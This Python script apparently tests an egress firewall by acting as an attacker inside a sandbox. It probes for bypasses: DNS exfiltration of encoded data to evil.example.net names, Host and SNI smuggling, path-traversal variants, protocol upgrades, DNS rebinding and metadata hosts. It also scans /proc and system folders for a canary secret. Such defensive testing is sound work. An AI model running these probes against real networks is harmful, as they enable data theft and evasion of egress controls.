"""The attacker at the way out: runs in a cell, and as a control beside it. Standard library only.

In the cell, everything goes through the egress door, and TLS trusts what the cell says. As a control, it connects
directly, and trusts anybody: the probes must succeed there.
"""

from __future__ import annotations

import importlib
import json
import os
import socket
import ssl
import sys
import urllib.request
from pathlib import Path
from typing import Any

CONTROL = sys.argv[1:] == ["control"]
DATA = "c2VjcmV0"
"""What the attacker wants out."""


def reach(host: str, port: int) -> socket.socket:
    """Return a TCP connection to a host: through the door, or directly."""
    if CONTROL:
        return socket.create_connection((host, port), timeout=10)
    wire = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    wire.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = wire.recv(65536)
    if not head.startswith(b"HTTP/1.1 200"):
        raise Denied(head + rest(wire))
    return wire


class Denied(Exception):  # noqa: N818
    """The door said no; the argument is what it said."""


def rest(wire: socket.socket) -> bytes:
    """Read to the end."""
    data = b""
    try:
        while part := wire.recv(65536):
            data += part
    except OSError:
        pass
    return data


def response(wire: socket.socket) -> bytes:
    """Read one response of a connection that stays open."""
    data = b""
    while b"\r\n\r\n" not in data and (part := wire.recv(65536)):
        data += part
    head, _, body = data.partition(b"\r\n\r\n")
    size = int(head.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0] or 0)
    while len(body) < size and (part := wire.recv(65536)):
        body += part
    return head + b"\r\n\r\n" + body


def judged(answer: bytes) -> str:
    """Return the code of a denial, or the status line's rest, or that the connection was cut."""
    if not answer:
        return "cut"
    head, _, body = answer.partition(b"\r\n\r\n")
    if b'"code"' in body:
        return str(json.loads(body[body.index(b"{") : body.rindex(b"}") + 1])["error"]["code"])
    return head.split(b"\r\n")[0].decode().partition(" ")[2]


def tls(wire: socket.socket, name: str) -> ssl.SSLSocket:
    """Shake hands under a name."""
    context = ssl.create_default_context()
    if CONTROL:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(wire, server_hostname=name)


def inside(request: str, host: str = "seen.example.com", sni: str | None = None) -> str:
    """Say something in a tunnel."""
    try:
        wire = reach(host, 443)
    except Denied as denied:
        return judged(denied.args[0])
    try:
        with tls(wire, sni or host) as secured:
            secured.sendall(request.encode())
            return judged(rest(secured))
    except OSError:
        return "cut"


def plain(url: str, host: str, more: str = "", method: str = "GET", body: str = "") -> str:
    """Ask for a plain URL by proxy, or as a control, at its host."""
    path = url.partition(host)[2]
    wire = socket.create_connection((host, 80) if CONTROL else ("127.0.0.1", 3128), timeout=10)
    target = path if CONTROL else url
    wire.sendall(f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{more}\r\n{body}".encode())
    return judged(rest(wire))


def get(path: str = "/public/x", host: str = "seen.example.com", more: str = "", method: str = "GET") -> str:
    """The text of a request that ends its connection."""
    connection = "" if "Connection:" in more else "Connection: close\r\n"
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{connection}{more}\r\n"


def looked_up(name: str) -> str:
    """Ask whatever resolver there is, and say whether it had an address."""
    try:
        socket.getaddrinfo(name, 443)
    except OSError:
        return "cut"
    return "200"


def exfiltrate(how: str) -> str:
    """Ask for a host whose name is the data; to look it up is all that it takes."""
    name = f"{DATA}-{how}.evil.example.net"
    try:
        return inside(get(host=name), name) if how == "connect" else plain(f"http://{name}/", name)
    except OSError:
        return "cut"


def rebinding() -> dict[str, str]:
    """Two requests in one connection to a name, then another connection, when the name has moved."""
    host = "flip.example.com"
    found = {}
    with tls(reach(host, 443), host) as secured:
        for name in ("first", "same connection"):
            secured.sendall(f"GET /{name.split()[0]} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            found[f"7 flip, {name}"] = judged(response(secured))
    found["7 flip, second"] = inside(get("/second", host), host)
    return found


def second_hop(to: str) -> str:
    """Follow a redirect as a client does, to a new place or path."""
    first = inside(get(f"/public/r?to={to}"))
    if not first.startswith("302"):
        return first
    if to.startswith("/"):
        return inside(get(to))
    return inside(get("/public/x", "other.example.com"), "other.example.com")


def repeated() -> str:
    """What a host says that repeats every header, the one of a secret among them."""
    host = "hub.example.com"
    with tls(reach(host, 443), host) as secured:
        secured.sendall(get("/", host, "Authorization: Bearer my-own\r\n").encode())
        return rest(secured).decode("latin-1")


def searched(texts: list[bytes]) -> list[str]:
    """Where in the cell there is anything that looks like the secret: only the test knows all of it."""
    found = [f"answer {n}" for n, text in enumerate(texts) if b"canary-" in text]
    places = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]
    places += [p for root in ("/casemate", "/workspace", "/tmp", "/etc") for p in Path(root).rglob("*")]
    for path in places:
        try:
            if path.is_file() and b"canary-" in path.read_bytes():
                found.append(str(path))
        except OSError:
            continue
    return found


def libraries() -> dict[str, str]:
    """What the usual clients get that know nothing of a firewall but their environment."""
    httpx = importlib.import_module("httpx")  # of the agent's image, not of the host that runs the tests
    url = "https://seen.example.com/public/x"
    found = {"urllib": str(urllib.request.urlopen(url).status), "httpx": str(httpx.get(url).status_code)}
    try:
        trusting = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        trusting.load_verify_locations("/etc/ssl/certs/ca-certificates.crt")
        trusting.wrap_socket(reach("seen.example.com", 443), server_hostname="seen.example.com")
    except ssl.SSLError as error:
        found["without the bundle"] = type(error).__name__
    return found


def main() -> None:
    """Try everything; say what came of it."""
    upload = f"Content-Length: {len(DATA)}\r\nX-Probe: 24\r\n"
    upgrade = "Upgrade: websocket\r\nConnection: close, Upgrade\r\nX-Probe: 13\r\n"
    h2 = get(more="Upgrade: h2c\r\nConnection: close, Upgrade\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nX-Probe: 13\r\n")
    found: dict[str, Any] = {
        "allowed inspected": inside(get()),
        "allowed tunnel": inside(get("/anything", "tunnel.example.com"), "tunnel.example.com"),
        "allowed plain": plain("http://plain.example.com/public/x", "plain.example.com"),
        "13 websocket inside": inside(get(more=upgrade)),
        "13 h2 inside": inside(h2),
        "14 authority header": inside(get(more=":authority: other.example.com\r\n")),
        "14 absolute target for another host": inside(get("https://other.example.com/public/x")),
        "17 another host inside": inside(get(host="other.example.com")),
        "17 two hosts inside": inside(get(more="Host: other.example.com\r\n")),
        "16 another name in an opaque tunnel": inside(get(), "tunnel.example.com", "other.example.com"),
        "16 another name in an inspected tunnel": inside(get(), "seen.example.com", "other.example.com"),
        "23 second hop to another host": second_hop("https://other.example.com/public/x"),
        "23 second hop to another path": second_hop("/private"),
        "24 upload by POST, inspected": inside(get(more=upload, method="POST") + DATA),
        "24 upload by PUT, plain": plain("http://plain.example.com/public/x", "plain.example.com", upload, "PUT", DATA),
        "24 another path, inspected": inside(get("/private")),
        "24 dots in a path, inspected": inside(get("/public/../private")),
        "24 encoded dots, inspected": inside(get("/public/%2e%2e/private")),
        "24 another path, plain": plain("http://plain.example.com/private", "plain.example.com"),
        "2 data in a name, by the resolver": looked_up(f"{DATA}-resolver.evil.example.net"),
        "3 data in a denied name, CONNECT": exfiltrate("connect"),
        "3 data in a denied name, plain": exfiltrate("plain"),
    }
    found["a credential, repeated"] = repeated()
    found["quota of three"] = [inside(get("/", "metered.example.com"), "metered.example.com") for _ in range(5)]
    found["the credential in the cell"] = searched([str(found).encode()])
    if not CONTROL:
        found |= libraries()
        for host in ("loopback", "metadata", "mixed", "neighbour"):
            found[f"7 {host}"] = inside(get("/", f"{host}.example.com"), f"{host}.example.com")
        found |= rebinding()
        folder = Path("/workspace/artifacts")
        folder.mkdir()
        (folder / "answers.json").write_text(json.dumps(found))
    sys.stdout.write(json.dumps(found) + "\n")


if __name__ == "__main__":
    os.environ.setdefault("PYTHONUNBUFFERED", "1")
    main()
